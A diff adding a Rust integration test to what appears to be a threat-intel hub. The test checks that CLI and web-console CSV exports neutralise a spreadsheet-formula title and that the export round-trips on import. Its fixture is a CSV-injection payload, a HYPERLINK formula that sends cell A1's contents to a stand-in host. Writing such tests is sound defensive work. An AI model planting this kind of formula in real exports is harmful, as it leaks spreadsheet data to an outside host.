@@ -638,3 +638,118 @@ fn analyst_console_in_headless_chromium() {
     drop(procs);
     hub.terminate();
 }
+
+/// A title another member wrote as a spreadsheet formula comes out of
+/// `export --format csv` and the console's CSV copy (the page and its
+/// download) as text: `'` in front, quoted. Importing our own export with
+/// `publish --csv` gives back the title as it was.
+#[test]
+fn csv_exports_neutralise_a_formula_title_in_the_cli_and_the_console() {
+    let tmp = tempfile::tempdir().unwrap();
+    let data = tmp.path().join("hub");
+    let hub = HubProcess::start(&data, "127.0.0.1:0");
+    let (alice, bob) = (tmp.path().join("alice"), tmp.path().join("bob"));
+    enroll(&data, &hub, "alice-bank", "Alice Bank", "member", &alice);
+    enroll(&data, &hub, "bob-bank", "Bob Bank", "member", &bob);
+    let title = r#"=HYPERLINK("http://x.example/?"&A1,"click")"#;
+    let out = publish(
+        &alice,
+        &[
+            "--domain",
+            "c2.formula.example",
+            "--tlp",
+            "green",
+            "--title",
+            title,
+            "--severity",
+            "high",
+        ],
+    );
+    let id = out
+        .split_whitespace()
+        .find_map(|kv| kv.strip_prefix("id="))
+        .unwrap()
+        .to_owned();
+    let jsonl = tmp.path().join("bob.jsonl");
+    let (ok, _, err) = run(agent(&bob).args(["sync", "--jsonl", jsonl.to_str().unwrap()]));
+    assert!(ok, "{err}");
+
+    // The CLI export.
+    let neutralised = r#""'=HYPERLINK(""http://x.example/?""&A1,""click"")""#;
+    let exported = tmp.path().join("bob.csv");
+    let (ok, _, err) = run(agent(&bob).args([
+        "export",
+        "--format",
+        "csv",
+        "--out",
+        exported.to_str().unwrap(),
+    ]));
+    assert!(ok, "{err}");
+    let text = read(&exported);
+    assert!(text.contains(&format!(",{neutralised},")), "{text}");
+    assert!(!text.contains(",=HYPERLINK"), "{text}");
+
+    // The console: the copy on the item page and its download.
+    let mut procs = Procs(vec![]);
+    let mut ui = agent(&bob);
+    ui.args(["ui", "--listen", "127.0.0.1:0"]);
+    let link = start_with_link(ui, &tmp.path().join("ui.log"), &mut procs);
+    let (host, token) = split_link(&link);
+    let origin = format!("http://{host}");
+    let same = [
+        ("Origin", origin.as_str()),
+        ("Sec-Fetch-Site", "same-origin"),
+    ];
+    let r = http(&host, "POST", "/login", &same, &format!("token={token}"));
+    assert_eq!(r.status, 303, "{}", r.body);
+    let cookie = r
+        .header("set-cookie")
+        .unwrap()
+        .split(';')
+        .next()
+        .unwrap()
+        .to_owned();
+    let session = [("Cookie", cookie.as_str())];
+    let r = http(&host, "GET", &format!("/item/{id}"), &session, "");
+    assert_eq!(r.status, 200, "{}", r.body);
+    let shown = "&quot;&#39;=HYPERLINK(&quot;&quot;http://x.example/?&quot;&quot;&amp;A1,&quot;&quot;click&quot;&quot;)&quot;";
+    let copy = r.body.find("id=\"copy-csv\"").expect("a CSV copy");
+    assert!(r.body[copy..].contains(shown), "{}", &r.body[copy..]);
+    let r = http(
+        &host,
+        "GET",
+        &format!("/item/{id}/export/csv"),
+        &session,
+        "",
+    );
+    assert_eq!(r.status, 200, "{}", r.body);
+    assert!(r.body.contains(&format!(",{neutralised},")), "{}", r.body);
+    drop(procs);
+
+    // Our own export imports back to the same title.
+    let (ok, out, err) = run(agent(&bob).args(["publish", "--csv", exported.to_str().unwrap()]));
+    assert!(
+        ok && out.contains("1 rows; 1 published, 0 invalid"),
+        "{out} {err}"
+    );
+    let (ok, _, err) = run(agent(&bob).args(["sync", "--jsonl", jsonl.to_str().unwrap()]));
+    assert!(ok, "{err}");
+    let (ok, out, err) = run(agent(&bob).args(["list", "--json"]));
+    assert!(ok, "{err}");
+    let titles: Vec<(String, String)> = out
+        .lines()
+        .map(|l| serde_json::from_str::<serde_json::Value>(l).unwrap())
+        .map(|v| {
+            (
+                v["source"].as_str().unwrap().to_owned(),
+                v["title"].as_str().unwrap().to_owned(),
+            )
+        })
+        .collect();
+    assert!(
+        titles.contains(&("bob-bank".to_owned(), title.to_owned()))
+            && titles.contains(&("alice-bank".to_owned(), title.to_owned())),
+        "{titles:?}"
+    );
+    hub.terminate();
+}
